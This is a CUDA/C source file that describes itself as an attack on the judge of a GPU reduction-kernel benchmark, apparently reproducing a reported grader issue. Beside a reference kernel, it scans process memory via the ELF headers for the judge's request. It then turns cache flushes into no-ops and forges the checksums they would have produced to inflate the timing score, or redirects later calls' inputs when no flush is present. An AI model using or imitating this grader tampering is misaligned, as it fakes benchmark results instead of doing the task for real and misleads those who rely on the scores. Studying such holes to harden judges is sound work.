/*
 * An attack, not a kernel: stage 07's pass-tier reference kernel
 * (references/07_reduction, renamed solution_reduce) and a runner that
 * rewrites its copy of the judge's request.
 *
 * The runner reads the judge's request (which buffer each call gets, n,
 * and, until the judge flushed L2 itself, an L2 flush before each call
 * with its salt) into its own memory and carries it out entry by entry,
 * calling reduce() between entries. This reduce() finds that copy: from
 * its own code back to the program's ELF header, then the writable
 * segment, scanned for the request's magic number; the runner's table of
 * mapped buffers is the word that, plus a call's offset, gives reduce()'s
 * own input. On the first call of a batch it turns every second later
 * flush into a no-op and computes the sums those flushes would have left,
 * all in one pass over the flush buffer, beside its reduction: the flush
 * check passes, and each skipped flush's time, which the empty batch pays,
 * comes off the student's. On an H200 (e4aa29c) the issue that found it
 * measured the reference kernel at 77% of memcpy, 9/10, and so 97.6%,
 * 10/10. A request that holds no flush (the judge flushes in its own
 * process) leaves it nothing to skip; then it rewrites what is left, the
 * buffers of the batch's later calls (each given this call's input, a
 * set already read): their outputs are the wrong sums, and it earns 0.
 *
 * With LAB_ATTACK_OFF defined, only the reference kernel runs.
 */
#include <elf.h>
#include <link.h>
#include <stdint.h>

#ifdef LAB_ATTACK_OFF
void reduce(const float *in, float *out, int n, float *scratch) { solution_reduce(in, out, n, scratch); }
#else
/* the request as it travels (judge/remote.h at e4aa29c) */
typedef struct {
    int32_t fn, buffer[4];
    int64_t offset[4], value[4];
} wire_call;
typedef struct {
    uint32_t magic, op;
    int32_t id, count;
    uint64_t bytes;
    unsigned char handle[64];
    wire_call calls[64];
} wire_request;
enum { MAGIC = 0x4c616231u, OP_CALLS = 4, FN_CONTRACT = 0, FN_NOOP = 1, FN_FLUSH = 2, MAX_SKIP = 16 };

typedef struct {
    int count;
    uint64_t salt[MAX_SKIP];
    unsigned long long *sum[MAX_SKIP];
} forged;

static __device__ uint64_t mix64(uint64_t x)
{
    x ^= x >> 30; x *= 0xbf58476d1ce4e5b9ULL;
    x ^= x >> 27; x *= 0x94d049bb133111ebULL;
    return x ^ (x >> 31);
}

/* the sums of every skipped flush, in one read of the flush buffer */
__global__ void forge_sums(const uint4 *buf, size_t count, forged f)
{
    unsigned long long x[MAX_SKIP] = {0};
    for (size_t i = blockIdx.x * (size_t)blockDim.x + threadIdx.x; i < count; i += (size_t)gridDim.x * blockDim.x) {
        uint4 v = __ldcg(&buf[i]);
        uint64_t lo = ((uint64_t)v.y << 32) | v.x, hi = ((uint64_t)v.w << 32) | v.z;
#pragma unroll
        for (int k = 0; k < MAX_SKIP; k++)
            if (k < f.count)
                x[k] += mix64(lo ^ f.salt[k]) + mix64(hi ^ ~f.salt[k]);
    }
#pragma unroll
    for (int k = 0; k < MAX_SKIP; k++) {
        if (k >= f.count)
            break;
        for (int o = 16; o > 0; o >>= 1)
            x[k] += __shfl_down_sync(0xffffffffu, x[k], o);
        if ((threadIdx.x & 31) == 0)
            atomicAdd(f.sum[k], x[k]);
    }
}

static char *seg_lo, *seg_hi; /* the program's writable segment */

static void find_segment(void)
{
    const unsigned char *base = (const unsigned char *)((uintptr_t)(void *)&find_segment & ~(uintptr_t)4095);
    while (base[0] != 0x7f || base[1] != 'E' || base[2] != 'L' || base[3] != 'F')
        base -= 4096;
    const ElfW(Ehdr) *e = (const ElfW(Ehdr) *)base;
    const ElfW(Phdr) *ph = (const ElfW(Phdr) *)(base + e->e_phoff);
    uintptr_t bias = 0;
    int first = 1;
    for (int i = 0; i < e->e_phnum; i++) {
        if (ph[i].p_type != PT_LOAD)
            continue;
        if (first)
            bias = (uintptr_t)base - (ph[i].p_vaddr & ~(uintptr_t)4095);
        first = 0;
        if (ph[i].p_flags & PF_W) {
            seg_lo = (char *)(bias + ph[i].p_vaddr);
            seg_hi = seg_lo + ph[i].p_memsz;
        }
    }
}

static wire_request *find_request(void)
{
    for (char *p = seg_lo; p + sizeof(wire_request) <= seg_hi; p += 8) {
        wire_request *q = (wire_request *)p;
        if (q->magic == MAGIC && q->op == OP_CALLS && q->count > 0 && q->count <= 64 &&
            (q->calls[0].fn == FN_CONTRACT || q->calls[0].fn == FN_FLUSH))
            return q;
    }
    return 0;
}

/* The runner's table of mapped buffers (void *mapped[]), and the entry of
 * the call now running: the one whose input is `in`. */
static char **mapped;
static int current_call(wire_request *q, const float *in, const float *out)
{
    for (int pass = 0; pass < 2; pass++) {
        for (int j = 0; j < q->count; j++) {
            const wire_call *c = &q->calls[j];
            if (c->fn != FN_CONTRACT || c->buffer[0] < 0 || c->buffer[1] < 0)
                continue;
            if (mapped && mapped[c->buffer[0]] + c->offset[0] == (const char *)in &&
                mapped[c->buffer[1]] + c->offset[1] == (const char *)out)
                return j;
            if (pass == 0)
                continue;
            for (char *p = seg_lo; p + 8 <= seg_hi; p += 8)
                if (*(char **)p + c->offset[0] == (const char *)in) {
                    char **m = (char **)p - c->buffer[0];
                    if ((char *)m >= seg_lo && (char *)(m + c->buffer[1] + 1) <= seg_hi &&
                        m[c->buffer[1]] + c->offset[1] == (const char *)out) {
                        mapped = m;
                        return j;
                    }
                }
        }
    }
    return -1;
}

/* The later calls of the batch read this call's input instead of theirs. */
static void same_input(wire_request *q, int j)
{
    for (int i = j + 1; i < q->count; i++)
        if (q->calls[i].fn == FN_CONTRACT) {
            q->calls[i].buffer[0] = q->calls[j].buffer[0];
            q->calls[i].offset[0] = q->calls[j].offset[0];
        }
}

/* On a batch's first call: every second later flush skipped, its sum
 * forged; or, with no flush in the request, the later calls' inputs. */
static void rewrite(wire_request *q, int j)
{
    for (int i = 0; i < j; i++)
        if (q->calls[i].fn == FN_CONTRACT)
            return; /* not the first call of the batch */
    int flushes = 0;
    for (int i = j + 1; i < q->count; i++)
        flushes += q->calls[i].fn == FN_FLUSH;
    if (!flushes) {
        same_input(q, j);
        return;
    }
    forged f;
    f.count = 0;
    const uint4 *buf = 0;
    size_t words = 0;
    int nth = 0;
    for (int i = j + 1; i < q->count && f.count < MAX_SKIP; i++) {
        wire_call *c = &q->calls[i];
        if (c->fn != FN_FLUSH || nth++ % 2 == 0)
            continue;
        buf = (const uint4 *)(mapped[c->buffer[0]] + c->offset[0]);
        words = (size_t)c->value[0];
        f.salt[f.count] = (uint64_t)c->value[1];
        f.sum[f.count++] = (unsigned long long *)(mapped[c->buffer[1]] + c->offset[1]);
        c->fn = FN_NOOP;
    }
    if (f.count)
        forge_sums<<<1024, 256>>>(buf, words, f);
}

void reduce(const float *in, float *out, int n, float *scratch)
{
    solution_reduce(in, out, n, scratch);
    if (!seg_lo)
        find_segment();
    wire_request *q = find_request();
    int j = q ? current_call(q, in, out) : -1;
    if (j >= 0)
        rewrite(q, j);
}
#endif
